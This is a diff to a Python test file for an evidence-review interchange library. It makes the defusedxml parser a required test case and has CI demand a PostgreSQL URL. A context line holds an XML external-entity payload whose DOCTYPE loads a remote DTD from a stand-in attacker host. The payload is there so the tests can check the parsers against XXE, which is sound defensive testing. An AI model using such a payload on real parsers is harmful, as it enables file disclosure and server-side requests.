@@ -46,6 +46,8 @@ from acuevidence.evidence.store import (
 )
 
 PG_URL = os.environ.get("ACUEVIDENCE_TEST_POSTGRES_URL")
+if os.environ.get("CI") and not PG_URL:
+    raise RuntimeError("CI must provide ACUEVIDENCE_TEST_POSTGRES_URL (see .ci/postgres.sh)")
 BACKENDS = ["sqlite", pytest.param("postgresql", marks=[
     pytest.mark.postgres,
     pytest.mark.skipif(not PG_URL, reason="no PostgreSQL server: set "
@@ -55,12 +57,6 @@ DATA = Path(__file__).parent / "data" / "rm5"
 MINIMAL = DATA / "minimal_review.rm5"
 WHO, WHY = "tester", "interchange test"
 
-try:
-    import defusedxml  # noqa: F401
-
-    HAVE_DEFUSEDXML = True
-except ImportError:  # pragma: no cover - depends on the environment
-    HAVE_DEFUSEDXML = False
 
 
 # --------------------------------------------------------------------------------------------
@@ -540,10 +536,8 @@ PARAMETER_ENTITY = """<?xml version="1.0"?>
 <!DOCTYPE r [<!ENTITY % remote SYSTEM "http://attacker.invalid/evil.dtd"> %remote;]>
 <COCHRANE_REVIEW/>
 """
-PARSERS = [pytest.param(True, marks=pytest.mark.skipif(not HAVE_DEFUSEDXML,
-                                                       reason="defusedxml not installed"),
-                        id="defusedxml"),
-           pytest.param(False, id="expat-fallback")]
+# defusedxml is a required dependency (pyproject.toml), so its parser is always tested.
+PARSERS = [pytest.param(True, id="defusedxml"), pytest.param(False, id="expat-fallback")]
 
 
 @pytest.mark.parametrize("use_defusedxml", PARSERS)
